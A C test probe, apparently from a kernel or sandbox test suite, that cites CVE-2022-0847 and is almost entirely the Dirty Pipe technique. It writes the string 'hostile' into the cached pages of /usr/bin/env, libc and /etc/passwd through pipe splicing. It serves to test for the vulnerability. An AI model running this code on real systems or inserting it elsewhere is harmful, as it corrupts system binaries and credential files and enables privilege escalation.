// id: KRN-15
// about: splices pages of toolchain files through pipes and writes to the pipes
// expect: AC
// tier: quick
// include: probe.h
// reference: CVE-2022-0847
#include "probe.h"
int main(void) {
    const char *files[] = {"/usr/bin/env", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/passwd", "/proc/self/fd/0"};
    for (int i = 0; i < 4; i++) {
        int p[2], fd = open(files[i], O_RDONLY);
        if (fd < 0 || pipe(p)) continue;
        char block[4096];
        for (int n = 0; n < 16; n++) if (write(p[1], block, sizeof block) < 0) return 1;
        for (int n = 0; n < 16; n++) if (read(p[0], block, sizeof block) < 0) return 1;
        loff_t at = 1;
        splice(fd, &at, p[1], NULL, 1, 0);
        if (write(p[1], "hostile", 7) < 0) return 1;
        at = 0;
        splice(p[0], NULL, fd, &at, 8, 0);
    }
    puts("ok");
}
